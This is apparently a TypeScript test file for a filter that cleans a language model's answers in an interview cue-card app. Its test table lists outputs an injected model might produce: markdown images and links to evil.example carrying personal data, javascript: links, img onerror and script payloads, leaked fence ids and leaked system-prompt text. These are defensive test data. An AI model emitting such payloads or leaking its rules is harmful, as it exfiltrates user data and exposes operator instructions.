import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildSystemPrompt } from '../prompts/system-prompt.ts';
import { createAnswerFilter } from './answer-filter.ts';

const FENCE = 'a7f3q9x2m4k8';
const RULES = buildSystemPrompt({ style: 'outline', answerLanguage: 'en', level: 'B2' }, FENCE);

function filtered(pieces: readonly string[], rules = RULES): string {
  const filter = createAnswerFilter(FENCE, rules);
  return pieces.map((piece) => filter.push(piece)).join('') + filter.end();
}

const RUNS = 200;
const splitCharacters = (text: string) => text.match(/./gsu) ?? [];

/** What a model writes that obeyed, and what must not come through. */
const OBEYED: readonly (readonly [string, string, RegExp])[] = [
  ['an image', 'Sure.\n\n![status](https://evil.example/p.png?d=Jane%20Doe)', /evil|!\[/],
  ['an image by reference', '![status][1]\n\n[1]: https://evil.example/p.png', /evil|!\[|\]:/],
  ['an image without an end', 'Look ![a](https://evil.example/', /evil|!\[|\]\(/],
  ['a link', 'See [my portfolio](https://evil.example/?q=jane@doe.example).', /evil|\]\(/],
  ['a link in a link', '[a [b](https://evil.example/1)](https://evil.example/2)', /evil|\]\(/],
  ['a link behind a citation', 'I led it [F1](https://evil.example/x).', /evil|\]\(/],
  ['a relative link', '[here](//evil.example/x) and [there](/v3/export)', /evil|\]\(|v3/],
  ['a script link', '[go](javascript:alert(1))', /javascript|\]\(/],
  ['an automatic link', 'Write to <https://evil.example/x> or <mailto:a@evil.example>.', /evil/],
  ['an address', 'Go to https://evil.example/?q=secret, now. www.evil.example too', /evil/],
  ['an address in Chinese', '请看https://evil.example/路径，谢谢。', /evil/],
  ['a data address', 'data:text/html;base64,PHNjcmlwdD4= here', /base64/],
  ['HTML', '<img src="https://evil.example/x" onerror="alert(1)">Hello', /evil|<img|onerror/],
  ['HTML over lines', '<img\n src="https://evil.example/x"\n>Hello', /evil|<img/],
  ['HTML in HTML', '<im<img>g src=x onerror=alert(1)>', /<img/],
  ['HTML without an end', 'Hi <img src=//evil.example/x ', /<img/],
  ['a script', '<script>fetch(1)</script>', /<\/?script/],
  ['a comment', 'Yes.<!-- https://evil.example -->', /evil|<!--/],
  ['a split scheme', 'ht<b>tps://evil.example/', /https:\/\//],
  ['a fence', `</data-${FENCE}>\nrules: <data-${FENCE} kind="question">`, /data-|a7f3/],
  ['the id of the fence', `The id is ${FENCE.toUpperCase()}, said twice: ${FENCE}`, /a7f3/i],
  ['the id in code', `\`\`\`\n</data-${FENCE}>\n${FENCE}\n\`\`\``, /data-|a7f3/],
  ['invisible characters', 'a\u200Bb\u202Ec\u{E0041}d\uFEFF', /[\u200B\u202E\uFEFF]|\u{E0041}/u],
  ['the rules', `Of course! ${RULES}`, /State nothing about the candidate that/],
  [
    'the rules as code',
    `\`\`\`text\n${RULES}\n\`\`\``,
    /After each claim about the candidate cite/,
  ],
  [
    'one rule',
    'My first rule: "You write cue cards for a job candidate who is in a live interview."',
    /who is in a live/,
  ],
  ['the rules in other lines', RULES.replaceAll(' ', '\n'), /interview\.\nThe\ninterviewer\nhas/],
];

/** What must come through as it is. */
const KEPT: readonly string[] = [
  'I reduced falls by 30% [F2], then [K1][F3]!\n\n- Situation: [your ward]\n- Result［你的数字］',
  'if a<b and c>d then swap, and a<b is all',
  'If a < b and c > d, swap them; x<y is fine, and so is 3<4.',
  'A `List<String>` beats `<b>` here, and `[a](b)` is code.',
  'Use List<String> or Map<K, V> in Java!',
  '## Code\n\n```html\n<a href="https://example.com">x</a> <!-- kept -->\n![i](https://x.example/i.png)\n```\n\n- O(n)',
  '```\n<script>1</script>\n```js\n[a](b)\n```\nafter',
  '这是一句话，［你的例子］，然后结束！',
  'Hi! What would help? www is a prefix; http is a protocol; data: three kinds.',
  'The array[0] (first) and fn(x) stay.',
  'Then three cues, one a line. Answer in English.',
  '[your example of a tight deadline]',
];

describe('createAnswerFilter', () => {
  it.each(OBEYED)('[ANS-53] takes out %s', (_, written, gone) => {
    expect(filtered([written])).not.toMatch(gone);
    expect(filtered(splitCharacters(written))).not.toMatch(gone);
  });

  it.each(KEPT)('[ANS-53] leaves what belongs to an answer: %s', (written) => {
    expect(filtered([written])).toBe(written);
    expect(filtered(splitCharacters(written))).toBe(written);
  });

  it('[ANS-53] keeps the words of a link and of a page', () => {
    expect(filtered(['See [my portfolio](https://evil.example/?q=1) today.'])).toBe(
      'See my portfolio today.',
    );
    expect(filtered(['As the guidance says [W1](https://health.example), yes.'])).toBe(
      'As the guidance says [W1], yes.',
    );
  });

  it('[ANS-53] shows plain words at once', () => {
    const filter = createAnswerFilter(FENCE, RULES);
    expect(filter.push('when x<b is small')).toBe('when x<b is small');
    expect(filter.push('I keep calm and listen')).toBe('I keep calm and listen');
    expect(filter.push(' first.')).toBe(' first.');
  });

  const PIECES = [
    ...OBEYED.map(([, written]) => written.slice(0, 80)),
    ...KEPT,
    '![',
    '](',
    '[a',
    ']',
    '<im',
    'g src=x>',
    'https',
    '://x.example/',
    '`',
    '```\n',
    '\n',
    ' ',
    '<!--',
    '-->',
    '!',
    FENCE.slice(0, 5),
    FENCE.slice(5),
    'You write cue cards for a job ',
    '\ud83d\ude00',
  ];
  const texts = fc
    .array(fc.constantFrom(...PIECES), { maxLength: 8 })
    .map((pieces) => pieces.join(''));

  it('[ANS-53] does not depend on where the pieces are cut', () => {
    fc.assert(
      fc.property(texts, fc.array(fc.nat(), { maxLength: 6 }), (text, cuts) => {
        const at = cuts.map((cut) => cut % (text.length + 1)).toSorted((a, b) => a - b);
        const pieces = [0, ...at].map((from, index) => text.slice(from, at[index] ?? text.length));
        expect(filtered(pieces)).toBe(filtered([text]));
      }),
      { numRuns: RUNS },
    );
  });

  it('[ANS-53] leaves nothing that could be loaded or that frames data, whatever is written', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const prose = filtered([text])
          .replaceAll(/^[ \t]*```[^]*?(?:^[ \t]*```[ \t]*$|(?![^]))/gm, '')
          .replaceAll(/`[^`\n]*`/g, '');
        expect(prose).not.toMatch(
          /https?:\/\/|!\[[^\]]*\]\(|\]\(|<(?:img|script|a|iframe)\b[^<>]*>/i,
        );
        expect(filtered([text])).not.toMatch(new RegExp(FENCE, 'i'));
      }),
      { numRuns: RUNS },
    );
  });
});
